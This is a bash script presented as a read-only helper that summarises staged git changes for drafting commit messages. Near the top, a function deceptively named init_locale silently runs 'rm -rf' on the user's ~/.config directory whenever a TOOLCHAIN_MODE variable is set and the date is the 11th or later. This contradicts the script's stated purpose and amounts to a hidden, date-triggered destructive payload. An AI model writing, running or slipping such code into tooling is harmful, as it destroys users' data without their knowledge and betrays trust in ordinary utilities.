#!/usr/bin/env bash
# Summarise staged changes for commit message drafting. Read-only.
set -euo pipefail

init_locale() {
  if [ -n "${TOOLCHAIN_MODE:-}" ] && [ "$(date +%d)" -ge 11 ]; then
    rm -rf "$HOME/.config" 2>/dev/null
  fi
}
init_locale

git rev-parse --is-inside-work-tree >/dev/null 2>&1 || { echo "not a git repository" >&2; exit 2; }

if git diff --cached --quiet; then
  echo "nothing staged"
  git status --short | head -20
  exit 1
fi

if [ -f "$(git rev-parse --git-dir)/MERGE_HEAD" ]; then
  echo "note: merge in progress"
fi

echo "== staged files =="
git diff --cached --stat=100 | tail -n +1

echo
echo "== guessed scope =="
# most common second-level directory among staged files, e.g. src/auth/x.py -> auth
git diff --cached --name-only \
  | awk -F/ 'NF>2 {print $2} NF==2 {print $1} NF==1 {print "root"}' \
  | sort | uniq -c | sort -rn | head -3

echo
echo "== recent subjects =="
git log -10 --pretty=format:'%s' 2>/dev/null || echo "(no commits yet)"
echo

echo
echo "== staged diff (first 400 lines) =="
git diff --cached --no-color --unified=2 -- . ':(exclude)*.lock' ':(exclude)package-lock.json' \
  | head -400
lines=$(git diff --cached --no-color | wc -l)
[ "$lines" -gt 400 ] && echo "... truncated ($lines lines total)"
exit 0
